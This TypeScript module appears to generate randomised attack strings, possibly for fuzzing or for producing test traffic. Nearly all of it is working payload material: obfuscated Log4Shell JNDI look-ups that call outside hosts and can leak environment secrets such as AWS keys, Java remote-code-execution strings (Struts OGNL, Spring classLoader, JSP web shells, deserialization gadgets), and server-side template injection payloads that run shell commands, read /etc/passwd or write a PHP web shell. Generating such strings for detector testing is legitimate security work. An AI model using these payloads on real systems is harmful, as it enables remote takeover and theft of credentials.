// Code for Java and for template engines, and look-ups in log lines.

import { serialized } from './php.ts';
import { COMMANDS, host } from './victims.ts';
import type { Picker } from './picker.ts';

function jndiLetters(p: Picker, word: string): string {
  return Array.from(word)
    .map((letter) =>
      p.chance(0.4)
        ? p.pick([
            `\${lower:${letter}}`,
            `\${upper:${letter}}`,
            `\${::-${letter}}`,
            `\${${p.letters(1, 5)}:${p.letters(0, 5)}:-${letter}}`,
            `\${env:${p.letters(1, 6).toUpperCase()}:-${letter}}`,
            `\${date:'${letter}'}`,
            letter,
            `\${sys:${p.letters(1, 5)}:-${letter}}`,
            `\${k8s:k5:-${letter}}`,
            `\\u00${letter.charCodeAt(0).toString(16)}`,
          ])
        : letter,
    )
    .join('');
}

export function log4shell(p: Picker): string {
  const scheme = p.pick([
    'ldap',
    'ldap',
    'ldaps',
    'rmi',
    'dns',
    'iiop',
    'http',
    'nis',
    'nds',
    'corba',
    'ldap',
  ]);
  const isPlain = p.chance(0.3);
  const name = isPlain ? 'jndi' : jndiLetters(p, 'jndi');
  const written = isPlain ? scheme : p.chance(0.6) ? jndiLetters(p, scheme) : scheme;
  const colon = isPlain
    ? ':'
    : p.pick([':', ':', '${::-:}', '${env:x:-:}', '${lower::}', '%3a', '${sys:y:-:}']);
  const place = p.pick([
    host(p),
    `${p.int(1, 220)}.${p.int(0, 255)}.${p.int(0, 255)}.${p.int(1, 254)}:${p.int(80, 9999)}`,
    `127.0.0.1#${host(p)}`,
    `\${hostName}.${host(p)}`,
    `\${env:AWS_SECRET_ACCESS_KEY}.${host(p)}`,
    `\${sys:java.version}.${host(p)}`,
    `${p.hex(8, 20)}.${host(p)}`,
  ]);
  const open = p.pick([
    '${',
    '${',
    '${',
    '${',
    '$%7b',
    '%24{',
    '\\u0024\\u007b',
    '%24%7B',
    '$ {',
    '&dollar;{',
    '%2524%257b',
    '＄｛',
    '$\\{',
  ]);
  const text = `${open}${name}${colon}${written}${p.pick([':', ':', '${::-:}', '%3a'])}${p.pick(['//', '//', '${::-/}/', '%2f%2f', '//127.0.0.1#'])}${place}/${p.letters(0, 8)}${p.maybe(0.2, '${date:yyyy}')}${p.pick(['}', '}', '}', '%7d', '', '\\u007d'])}`;
  return p.pick([
    text,
    text,
    text,
    text,
    `\${\${${p.letters(1, 4)}:-j}ndi:${scheme}://${place}/x}`,
    `\${\${env:BARFOO:-j}\${env:BARFOO:-n}di\${env:BARFOO:-:}${scheme}://${place}/a}`,
    `\${${p.pick(['env', 'sys', 'java', 'ctx', 'main', 'bundle', 'docker', 'k8s', 'lower', 'upper', 'date', 'marker', 'web', 'spring', 'log4j'])}:${p.pick(['AWS_SECRET_ACCESS_KEY', 'os', 'version', 'loginId', 'user.name', 'USER', 'application:spring.datasource.password', 'hw', 'runtime'])}}`,
    `${p.letters(2, 8)}=${text}`,
    `\${script:javascript:java.lang.Runtime.getRuntime().exec('${p.pick(COMMANDS)}')}`,
    `\${${p.pick(['url', 'dns', 'dns:address'])}:UTF-8:http://${host(p)}}`,
  ]);
}

export function java(p: Picker): string {
  const command = p.pick(COMMANDS);
  return p.pick([
    log4shell(p),
    `Runtime.getRuntime().exec("${command}")`,
    `T(java.lang.Runtime).getRuntime().exec('${command}')`,
    `\${T(java.lang.Runtime).getRuntime().exec('${command}')}`,
    `%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='${command}')}`,
    `%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('x',${p.int(100, 999)}*${p.int(100, 999)})}`,
    `\${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("${command}").getInputStream(),"utf-8"))}`,
    `%{${p.int(100, 9999)}*${p.int(100, 9999)}}`,
    `redirect:\${#context["xwork.MethodAccessor.denyMethodExecution"]=false}`,
    `redirect:%{3*4}`,
    `action:%25{3*4}`,
    `class.module.classLoader.resources.context.parent.pipeline.first.${p.pick(['pattern', 'suffix', 'directory', 'prefix', 'fileDateFormat'])}=${p.pick(['.jsp', 'webapps/ROOT', 'tomcatwar', '%25{c2}i'])}`,
    `class.classLoader.URLs[0]=jar:http://${host(p)}/x.jar!/`,
    `#{T(java.lang.Runtime).getRuntime().exec('${command}')}`,
    `new java.lang.ProcessBuilder(new java.lang.String[]{"${command}"}).start()`,
    `\${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('${command}')}`,
    `java.lang.Runtime`,
    `javax.script.ScriptEngineManager`,
    `org.springframework.context.support.FileSystemXmlApplicationContext`,
    `<%=Runtime.getRuntime().exec(request.getParameter("cmd"))%>`,
    `<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec("${command}"); %>`,
    `<% out.println("x"); %>`,
    `new javax.script.ScriptEngineManager().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec('${command}')")`,
    `"".getClass().forName("java.lang.Runtime")`,
    `@java.lang.System@getProperty("user.dir")`,
    `\${applicationScope}`,
    `\${pageContext.request.getSession()}`,
    `\${param.${p.letters(1, 4)}}`,
    `com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl`,
    `org.apache.commons.collections.functors.InvokerTransformer`,
    serialized(p),
  ]);
}

export function template(p: Picker): string {
  const sum = `${p.int(2, 9999)}*${p.int(2, 9999)}`;
  const command = p.pick(COMMANDS);
  const inner = p.pick([
    sum,
    sum,
    `${p.int(2, 99)}*'${p.int(1, 99)}'`,
    `config`,
    `config.items()`,
    `self`,
    `request`,
    `request.application.__globals__.__builtins__.__import__('os').popen('${command}').read()`,
    `''.__class__.__mro__[${p.int(1, 2)}].__subclasses__()`,
    `[].__class__.__base__.__subclasses__()[${p.int(30, 500)}]`,
    `cycler.__init__.__globals__.os.popen('${command}').read()`,
    `lipsum.__globals__['os'].popen('${command}').read()`,
    `url_for.__globals__.current_app.config`,
    `get_flashed_messages.__globals__`,
    `().__class__.__bases__[0]`,
    `_self.env.registerUndefinedFilterCallback("exec")`,
    `_self.env.getFilter("${command}")`,
    `['${command}']|filter('system')`,
    `['${command}',1]|sort('system')|join`,
    `[0]|reduce('system','${command}')`,
    `['${command}']|map('passthru')`,
    `app.request.server.all|join(',')`,
    `'/etc/passwd'|file_excerpt(1,30)`,
    `dump(app)`,
    `constructor.constructor('return process')().mainModule.require('child_process').execSync('${command}')`,
    `this.constructor.constructor("alert(1)")()`,
    `#with "s" as |string|`,
    `range.constructor("return global.process.mainModule.require('child_process').execSync('${command}')")()`,
    `"freemarker.template.utility.Execute"?new()("${command}")`,
    `T(java.lang.Runtime).getRuntime().exec('${command}')`,
    `7*7`,
    `system('${command}')`,
    `__${p.letters(1, 4)}__`,
    `request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')`,
    `joiner.__init__.__globals__`,
    `namespace.__init__`,
    `settings.SECRET_KEY`,
    `debug`,
    `product.getClass().getProtectionDomain()`,
    `'a'.toUpperCase()`,
    `handler.settings`,
    `dict.mro()`,
    `config.__class__.from_envvar`,
    `attribute(_self,'x')`,
    `File.open('/etc/passwd').read`,
    `%x(${command})`,
    `IO.popen('${command}').readlines()`,
    `self.__init__.__globals__`,
    `x.__class__.__init__.__globals__`,
  ]);
  return p.pick([
    `{{${inner}}}`,
    `{{${inner}}}`,
    `{{ ${inner} }}`,
    `{{ ${inner} }}`,
    `\${${inner}}`,
    `\${${inner}}`,
    `#{${inner}}`,
    `<%= ${inner} %>`,
    `<%=${inner}%>`,
    `{${inner}}`,
    `{%${p.pick(['if', 'set x=', 'for x in', 'print', 'include', 'import', 'debug', 'extends'])} ${inner}%}${p.maybe(0.4, 'x{%endif%}')}`,
    `*{${inner}}`,
    `@{${inner}}`,
    `@(${inner})`,
    `[[\${${inner}}]]`,
    `__\${${inner}}__::.x`,
    `{{=${inner}}}`,
    `{{{${inner}}}}`,
    `#set($x=${inner})$x`,
    `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("${command}")}`,
    `{php}echo \`${command}\`;{/php}`,
    `{system('${command}')}`,
    `{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['cmd']); ?>",self::clearConfig())}`,
    `{$smarty.version}`,
    `#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("${command}")`,
    `\${{${sum}}}`,
    `<%- global.process.mainModule.require('child_process').execSync('${command}') %>`,
    `{{'${p.letters(1, 5)}'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}`,
    `{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen("${command}").read()}}{%endif%}{% endfor %}`,
    `<%${sum}%>`,
    `\${"z".join("ab")}`,
    `a{*comment*}b`,
    `\${{<%[%'"}}%\\`,
    `%{{${sum}}}`,
    `{{${sum}}}[[${p.int(1, 9)}*${p.int(1, 9)}]]`,
    `\${jndi}`,
    `#{ ${sum} }`,
    `{{__import__('os').system('${command}')}}`,
    `{@${p.letters(1, 5)}|s}`,
    `@{[system '${command}']}`,
    `$(${sum})`,
    `~{${inner}}`,
    `process.mainModule.require('child_process').execSync('${command}')`,
    `require('child_process').exec('${command}')`,
    `require("fs").readFileSync("/etc/passwd")`,
    `__import__('os').system('${command}')`,
    `exec("import os;os.system('${command}')")`,
    `eval(compile('import os','x','exec'))`,
    `global.process.exit()`,
    `while(1);`,
    `this.process.binding('fs')`,
  ]);
}
